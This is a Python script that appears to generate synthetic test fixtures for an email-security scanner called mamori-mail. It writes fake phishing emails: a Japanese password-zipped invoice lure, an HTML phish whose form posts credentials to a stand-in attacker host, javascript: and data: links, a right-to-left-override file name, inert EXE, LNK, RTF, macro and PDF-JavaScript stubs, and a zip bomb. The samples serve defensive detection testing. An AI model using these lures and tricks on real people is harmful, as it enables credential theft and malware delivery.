#!/usr/bin/env python3
"""Writes the mamori-mail test fixtures (all synthetic; no corpus data).

Run from this directory: python3 make_fixtures.py. Needs the `zip` command (Info-ZIP) for the
ZipCrypto-encrypted archive. The outputs are committed; rerun only to change them.
"""
import base64, io, os, subprocess, tempfile, zipfile
from email.header import Header

def b64(data: bytes) -> str:
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + 76] for i in range(0, len(s), 76))

def jis_word(text: str) -> str:
    return Header(text, "iso-2022-jp").encode()

def jis_body(text: str) -> bytes:
    return text.encode("iso-2022-jp")

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode.\r\n" * 20
PDF_JS = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /JavaScript /JS (app.alert('x');) >>\nendobj\n%%EOF\n"
LNK = bytes([0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]) + b"\x00" * 60 + "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le")
RTF = b"{\\rtf1\\ansi {\\object\\objemb\\objupdate {\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33}}}"
OLE = bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + b"\x00" * 504 + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64 + b"Attribute VB_Name = \"ThisDocument\"\r\n"

def docm() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("word/vbaProject.bin", OLE)
    return buf.getvalue()

def encrypted_zip(password: str, members) -> bytes:
    with tempfile.TemporaryDirectory() as d:
        names = []
        for name, data in members:
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
            names.append(name)
        subprocess.run(["zip", "-q", "-P", password, "out.zip", *names], cwd=d, check=True, env={**os.environ, "LC_ALL": "C.UTF-8"})
        with open(os.path.join(d, "out.zip"), "rb") as f:
            return f.read()

def bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zeros.bin", b"\x00" * (20 * 1024 * 1024))
    return buf.getvalue()

def write(name: str, text: str):
    with open(name, "wb") as f:
        f.write(text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8"))

PASSWORD = "Zx81pQ7m"
ZIP_MEMBERS = [("invoice.pdf.exe", EXE), ("detail.pdf", PDF_JS)]

common = """Return-Path: <bounce@mailer.example.net>
Received: from mx.victim.example.jp (mx.victim.example.jp [192.168.10.5])
	by mbox.victim.example.jp (Postfix) with ESMTP id 1; Tue, 1 Apr 2025 10:00:30 +0900 (JST)
Received: from sender.example.net (unknown [198.51.100.23])
	by mx.victim.example.jp (Postfix) with ESMTP id 2; Tue, 1 Apr 2025 10:00:05 +0900 (JST)
Authentication-Results: mx.victim.example.jp; spf=softfail smtp.mailfrom=mailer.example.net; dkim=none; dmarc=fail (p=none) header.from=example.co.jp
"""

PPAP_BODY = "田中様\n\nお世話になっております。請求書を送付いたします。\n詳細は hxxp://invoice-check[.]example/view を参照ください。\n\n解凍パスワード：" + PASSWORD + "\n\nよろしくお願いいたします。\n"

write("ppap_jp.eml", common + f"""From: {jis_word('経理部 山田')} <yamada@example.co.jp>
Reply-To: yamada.keiri@freemail.example
To: tanaka@victim.example.jp
Subject: {jis_word('【請求書】 No.12345 ご確認のお願い')}
Date: Tue, 1 Apr 2025 09:59:58 +0900
Message-ID: <20250401095958.1234@mailer.example.net>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: base64

{b64(jis_body(PPAP_BODY))}
--b1
Content-Type: application/zip; name="=?UTF-8?B?6KuL5rGC5pu4LnppcA==?="
Content-Disposition: attachment; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.zip
Content-Transfer-Encoding: base64

{b64(encrypted_zip(PASSWORD, ZIP_MEMBERS))}
--b1--
""")

MEMO = [("memo.txt", b"plain memo text " * 8)]

write("ppap_archive_only.eml", f"""From: sato@example.org
To: tanaka@victim.example.jp
Subject: {jis_word('資料送付')}
Date: Wed, 2 Apr 2025 11:00:00 +0900
Message-ID: <a1@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b2"

--b2
Content-Type: text/plain; charset=UTF-8

資料を送付します。パスワードは別メールでお送りします。
--b2
Content-Type: application/zip; name="shiryou.zip"
Content-Disposition: attachment; filename="shiryou.zip"
Content-Transfer-Encoding: base64

{b64(encrypted_zip("k9Rt2wQa", MEMO))}
--b2--
""")

write("ppap_password_only.eml", f"""From: sato@example.org
To: tanaka@victim.example.jp
Subject: {jis_word('パスワードのお知らせ')}
Date: Wed, 2 Apr 2025 11:00:30 +0900
Message-ID: <a2@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

""" + jis_body("先ほどのファイルのパスワードです。\n\nパスワード\nk9Rt2wQa\n").decode("ascii") + "\n")

write("html_phish.eml", """From: "Bank Support" <support@bank.example.jp>
Sender: relay@bulk.example.com
To: user@victim.example.jp
Subject: Please verify your account
Date: Thu, 3 Apr 2025 08:00:00 +0000
Message-ID: <x1@bulk.example.com>
User-Agent: PhishKit/2.1
X-Originating-IP: [203.0.113.77]
Authentication-Results: mx.victim.example.jp; spf=pass; dkim=fail header.d=bulk.example.com; dmarc=fail
ARC-Seal: i=1; a=rsa-sha256; cv=none; d=relay.example; s=a; b=xyz
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=us-ascii

Verify at http://192.0.2.44/login or https://www.bank.example.jp@evil.example/ now.
--alt
Content-Type: text/html; charset=us-ascii

<html><body><p>Dear customer,</p>
<a href="https://evil-login.example/bank">https://www.bank.example.jp/login</a>
<a href="http://bit.ly/3abcDEF">details</a>
<a href="javascript:alert(1)">run</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>
<form action="https://collect.evil.example/post" method="post"><input type="text" name="id"><input type="password" name="pw"></form>
</body></html>
--alt--
""")

write("attachments.eml", f"""From: hr@example.com
To: staff@victim.example.jp
Subject: Documents
Date: Fri, 4 Apr 2025 12:00:00 +0900
Message-ID: <att@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/plain; charset=utf-8

See attached.
--m
Content-Type: application/octet-stream; name="shortcut.lnk"
Content-Disposition: attachment; filename="shortcut.lnk"
Content-Transfer-Encoding: base64

{b64(LNK)}
--m
Content-Type: application/msword; name="report.doc"
Content-Disposition: attachment; filename="report.doc"
Content-Transfer-Encoding: base64

{b64(RTF)}
--m
Content-Type: application/vnd.ms-word.document.macroEnabled.12; name="plan.docm"
Content-Disposition: attachment; filename="plan.docm"
Content-Transfer-Encoding: base64

{b64(docm())}
--m
Content-Type: application/msword; name="old.doc"
Content-Disposition: attachment; filename="old.doc"
Content-Transfer-Encoding: base64

{b64(OLE)}
--m
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=UTF-8''photo%E2%80%AEgpj.exe
Content-Transfer-Encoding: base64

{b64(EXE)}
--m
Content-Type: message/rfc822

From: {jis_word('転送元')} <fwd@example.net>
Subject: {jis_word('転送されたメール')}
Date: Fri, 4 Apr 2025 11:00:00 +0900

inner body http://inner.example/x
--m--
""")

write("zipbomb.eml", f"""From: a@example.com
To: b@example.com
Subject: bomb
Date: Fri, 4 Apr 2025 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="z"

--z
Content-Type: text/plain

x
--z
Content-Type: application/zip; name="z.zip"
Content-Disposition: attachment; filename="z.zip"
Content-Transfer-Encoding: base64

{b64(bomb())}
--z--
""")

write("sample.mbox", """From alice@example.com Mon Apr  7 10:00:00 2025
From: alice@example.com
Subject: first
Date: Mon, 7 Apr 2025 10:00:00 +0000

hello
>From the mbox
From bob@example.com Mon Apr  7 10:01:00 2025
From: bob@example.com
Subject: second
Date: Mon, 7 Apr 2025 10:01:00 +0000

see https://example.org/page

From carol@example.com Mon Apr  7 10:02:00 2025
From: carol@example.com
Subject: third
Date: Mon, 7 Apr 2025 10:02:00 +0000

bye
""")
